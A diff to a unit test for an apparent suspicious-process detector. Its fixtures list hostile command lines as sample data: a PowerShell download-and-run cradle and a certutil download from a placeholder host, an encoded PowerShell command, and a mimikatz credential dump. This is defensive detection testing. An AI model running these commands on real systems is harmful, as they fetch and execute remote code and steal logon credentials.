@@ -103,10 +103,9 @@ def test_sp_patterns(spark):
             proc("powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')"),
             proc("certutil.exe -urlcache -f http://x/a.exe a.exe"),
             proc("notepad.exe notes.txt")]
-    t = {r["process_command_line"] if "process_command_line" in r else None: r for r in []}
     got = SuspiciousProcess(severity="low").typed(make_events(spark, rows)).collect()
     by = {r["command_line"]: r for r in got}
-    assert len(got) == 5 and t == {}
+    assert len(got) == 5  # notepad does not match; the severity override is not applied (L3)
     e = by[f"powershell.exe -NoProfile -EncodedCommand {enc}"]
     assert (e["severity"], e["decoded_payload"], json.loads(e["context"])["mitre_attack_ids"]) == ("high", "Write-Host 'x'", ["T1059.001"])
     assert by["mimikatz.exe sekurlsa::logonpasswords"]["severity"] == "critical"
